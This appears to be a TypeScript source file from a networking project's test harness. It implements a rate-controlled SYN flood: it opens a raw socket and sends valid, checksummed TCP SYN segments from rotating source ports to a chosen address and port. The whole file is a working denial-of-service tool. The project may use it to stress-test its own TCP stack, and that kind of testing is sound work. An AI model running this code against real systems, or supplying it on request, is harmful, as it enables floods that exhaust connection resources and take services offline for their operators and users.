/**
 * SYNs that nobody stands behind: each from another port, as fast as asked, by a
 * raw socket (RFC 9293 section 3.1; IPv4). Blocks the agent until all are sent.
 */
import { openLibc } from "../../../ffi/libc.ts";
import { AF, IPPROTO, SOCK } from "../../../ffi/linux_socket_constants.ts";
import { checksum, pseudoHeader4 } from "../../../src/core/wire/checksum.ts";
import { parseIpv4 } from "../../../src/core/wire/address.ts";
import { writeU16be, writeU32be } from "../../../src/core/wire/bytes.ts";
import { poll, socketAddress4 } from "./raw.ts";

const HEADER_BYTES = 24;
const FIRST_PORT = 1024;
const PORTS = 64_000;

/** Sends `count` SYNs at `perSecond`. @returns how many the system took. */
export function synFlood(
  argument: {
    /** Our own address, which the checksum covers. */
    readonly source: string;
    readonly address: string;
    readonly port: number;
    readonly count: number;
    readonly perSecond: number;
  },
): number {
  using libc = openLibc();
  const socket = libc.call.socket(AF.INET, SOCK.RAW, IPPROTO.TCP);
  if (socket < 0) throw libc.error("socket");
  const to = socketAddress4(argument.address, 0);
  const pseudo = pseudoHeader4(
    parseIpv4(argument.source)!,
    parseIpv4(argument.address)!,
    IPPROTO.TCP,
    HEADER_BYTES,
  );
  const segment = new Uint8Array(HEADER_BYTES);
  writeU16be(segment, 2, argument.port);
  segment[12] = (HEADER_BYTES / 4) << 4;
  segment[13] = 2; // SYN
  writeU16be(segment, 14, 64_240);
  segment.set([2, 4, 1380 >> 8, 1380 & 255], 20); // MSS
  const start = performance.now();
  let taken = 0;
  for (let sent = 0; sent < argument.count;) {
    const passed = performance.now() - start;
    const due = Math.min(
      argument.count,
      Math.floor(passed * argument.perSecond / 1000),
    );
    for (; sent < due; sent++) {
      writeU16be(segment, 0, FIRST_PORT + sent % PORTS);
      writeU32be(segment, 4, Math.imul(sent, 2_654_435_761) >>> 0);
      writeU16be(segment, 16, 0);
      const sum = checksum(segment, 0, HEADER_BYTES, pseudo);
      writeU16be(segment, 16, sum);
      if (libc.call.sendto(socket, segment, HEADER_BYTES, 0, to, 16) > 0) {
        taken++;
      }
    }
    poll(libc, socket, 0, 1);
  }
  libc.call.close(socket);
  return taken;
}
